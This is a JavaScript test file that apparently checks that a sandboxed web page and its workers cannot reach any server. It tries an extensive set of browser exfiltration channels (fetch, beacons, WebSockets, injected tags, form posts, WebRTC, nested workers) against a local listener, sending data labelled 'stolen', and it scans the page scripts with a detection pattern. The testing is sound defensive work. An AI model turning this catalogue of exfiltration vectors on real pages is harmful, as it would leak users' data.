// The page cannot send anything: attempts from the page and from inside the worker reach no server.

import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { browser, open, root, sample } from './harness.mjs';

let chrome;
let server;
let udp;
const heard = [];

before(async () => {
  chrome = await browser();
  server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Content-Type', 'text/javascript');
    response.end('');
  });
  server.on('upgrade', (request, socket) => {
    heard.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  udp = createSocket('udp4').on('message', () => heard.push('UDP'));
  await new Promise((resolve) => udp.bind(0, '127.0.0.1', resolve));
});
after(async () => {
  await chrome.close();
  server.close();
  udp.close();
});

/** Every attempt that both the page and a worker can make; what each came to. */
const attempts = async ({ base, ws }) => {
  const tried = {};
  const attempt = async (name, run) => {
    try {
      tried[name] = String(await run());
    } catch (error) {
      tried[name] = `refused: ${error.name}`;
    }
  };
  await attempt('fetch', () => fetch(`${base}/fetch?stolen`).then(() => 'sent'));
  await attempt('fetch without cors', () => fetch(`${base}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'stolen' }).then(() => 'sent'));
  await attempt('keepalive', () => fetch(`${base}/keepalive`, { keepalive: true }).then(() => 'sent'));
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${base}/xhr`, false);
    request.send();
    return 'sent';
  });
  await attempt('WebSocket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket(`${ws}/socket`);
    socket.onopen = () => resolve('sent');
    socket.onerror = () => reject(new Error('socket'));
  }));
  await attempt('EventSource', () => new Promise((resolve, reject) => {
    const source = new EventSource(`${base}/events`);
    source.onopen = () => resolve('sent');
    source.onerror = () => { source.close(); reject(new Error('events')); };
  }));
  await attempt('import', () => import(`${base}/import.js`).then(() => 'sent'));
  await attempt('worker', () => new Promise((resolve, reject) => {
    const worker = new Worker(`${base}/worker.js`);
    worker.onerror = () => reject(new Error('worker'));
    setTimeout(resolve, 500, 'nothing');
  }));
  return tried;
};

const addresses = () => ({
  base: `http://127.0.0.1:${server.address().port}`,
  ws: `ws://127.0.0.1:${server.address().port}`,
  udp: udp.address().port,
});

test('the server hears what is sent without the policy', async () => {
  const page = await (await chrome.newContext()).newPage();
  await page.setContent('<p>no policy');
  await page.evaluate(attempts, addresses());
  assert.ok(heard.length >= 4, heard.join());
  heard.length = 0;
  await page.context().close();
});

test('the page sends nothing', async () => {
  const page = await open(chrome);
  await sample(page);
  const tried = await page.evaluate(attempts, addresses());
  assert.ok(Object.values(tried).every((what) => what !== 'sent'), JSON.stringify(tried));
  await page.evaluate(async ({ base, udp }) => {
    navigator.sendBeacon(`${base}/beacon`, 'stolen');
    new Image().src = `${base}/image`;
    document.body.insertAdjacentHTML('beforeend', `
      <link rel="stylesheet" href="${base}/style"><link rel="prefetch" href="${base}/prefetch">
      <link rel="preload" as="fetch" href="${base}/preload"><link rel="modulepreload" href="${base}/modulepreload">
      <iframe src="${base}/frame"></iframe><object data="${base}/object"></object><embed src="${base}/embed">
      <video src="${base}/video" autoplay></video><img srcset="${base}/srcset 1x"><svg><image href="${base}/svg"/></svg>
      <div style="background: url(${base}/inline)"></div><base href="${base}/">`);
    const script = document.createElement('script');
    script.src = `${base}/script`;
    document.body.append(script);
    const style = new CSSStyleSheet();
    style.replaceSync(`body { background-image: url(${base}/sheet) } @font-face { font-family: f; src: url(${base}/font) } h1 { font-family: f }`);
    document.adoptedStyleSheets = [style];
    const form = document.createElement('form');
    Object.assign(form, { action: `${base}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
    const aimed = document.getElementById('paste').cloneNode(true);
    aimed.action = `${base}/form-again`;
    document.body.append(aimed);
    aimed.requestSubmit();
    try {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    } catch {
      // Refused.
    }
    await new Promise((resolve) => setTimeout(resolve, 1500));
  }, addresses());
  assert.deepEqual(heard, []);
  await page.context().close();
});

test('the workers send nothing', async () => {
  const page = await open(chrome);
  await page.evaluate(() => document.querySelector('.editors').lastElementChild.setAttribute('open', ''));
  await page.click('#example');
  await page.waitForFunction(() => /In use/.test(document.getElementById('rule-state').textContent));
  const workers = page.workers();
  assert.equal(workers.length, 2);
  for (const worker of workers) {
    const tried = await worker.evaluate(attempts, addresses());
    assert.ok(Object.values(tried).every((what) => what !== 'sent'), JSON.stringify(tried));
    const imported = await worker.evaluate(({ base }) => {
      try {
        importScripts(`${base}/imported.js`);
        return 'sent';
      } catch (error) {
        return error.name;
      }
    }, addresses());
    assert.equal(imported, 'NetworkError');
    // A worker from a blob in a worker from a blob.
    await worker.evaluate(({ base }) => {
      const inner = new Blob([`fetch('${base}/inner').catch(() => 0)`], { type: 'text/javascript' });
      new Worker(URL.createObjectURL(inner));
      return new Promise((resolve) => setTimeout(resolve, 800));
    }, addresses());
  }
  assert.deepEqual(heard, []);
  await page.context().close();
});

test('the scripts of the page lead nowhere', () => {
  // No policy binds navigation by a script: there is none.
  for (const name of ['app', 'editors', 'incidents', 'intake', 'jobs', 'payload', 'reading', 'text', 'unpack', 'view', 'worker', 'compiler-worker']) {
    const text = readFileSync(join(root, `web/page/${name}.js`), 'utf8');
    assert.doesNotMatch(text, /location|window\.open|fetch\(|https?:|innerHTML|insertAdjacentHTML|document\.write|eval\(/, name);
  }
});
